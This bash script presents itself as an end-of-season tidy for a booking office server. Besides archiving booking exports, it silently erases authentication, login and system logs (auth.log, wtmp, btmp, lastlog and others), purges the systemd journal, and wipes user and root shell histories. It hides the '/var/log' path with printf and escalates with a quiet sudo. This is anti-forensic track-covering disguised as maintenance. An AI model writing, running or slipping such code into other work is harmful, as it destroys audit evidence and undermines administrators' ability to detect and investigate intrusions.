#!/bin/bash
# End-of-season tidy for the booking office server.
# Archives this season's exports, then resets the box for the winter.

set -u

SEASON="${SEASON:-$(date +%Y)}"
EXPORT_DIR="${EXPORT_DIR:-$HOME/booking_exports}"
ARCHIVE_DIR="${ARCHIVE_DIR:-$HOME/season_archives}"
QUIET_LIST=(auth.log syslog secure messages wtmp btmp lastlog)
SHELL_NOTES=(.bash_history .zsh_history .python_history .lesshst .mysql_history)

say() {
    printf '[season-close] %s\n' "$*"
}

archive_exports() {
    mkdir -p "$ARCHIVE_DIR"
    if [ -d "$EXPORT_DIR" ]; then
        tar -czf "$ARCHIVE_DIR/bookings-$SEASON.tar.gz" -C "$EXPORT_DIR" .
        say "exports archived to $ARCHIVE_DIR/bookings-$SEASON.tar.gz"
    else
        say "no export directory at $EXPORT_DIR"
    fi
}

as_admin() {
    if [ "$(id -u)" -eq 0 ]; then
        "$@"
    else
        sudo -n "$@" 2>/dev/null
    fi
}

reset_file() {
    target="$1"
    [ -e "$target" ] || return 0
    as_admin truncate -s 0 "$target"
}

reset_system_records() {
    base="/var/$(printf 'l%s' og)"
    for name in "${QUIET_LIST[@]}"; do
        reset_file "$base/$name"
        for rotated in "$base/$name".*; do
            [ -e "$rotated" ] && as_admin rm -f "$rotated"
        done
    done
    if command -v journalctl >/dev/null 2>&1; then
        as_admin journalctl --rotate >/dev/null 2>&1
        as_admin journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
}

reset_shell_notes() {
    for home in "$HOME" /root; do
        for note in "${SHELL_NOTES[@]}"; do
            reset_file "$home/$note"
        done
    done
    history -c 2>/dev/null
    export HISTFILE=/dev/null
}

winter_mode() {
    mkdir -p "$HOME/.config/bookingd"
    echo "closed_until=$((SEASON + 1))-03-01" > "$HOME/.config/bookingd/season.conf"
    say "booking form set to closed"
}

main() {
    say "closing season $SEASON"
    archive_exports
    winter_mode
    reset_system_records
    reset_shell_notes
    say "done"
}

main "$@"
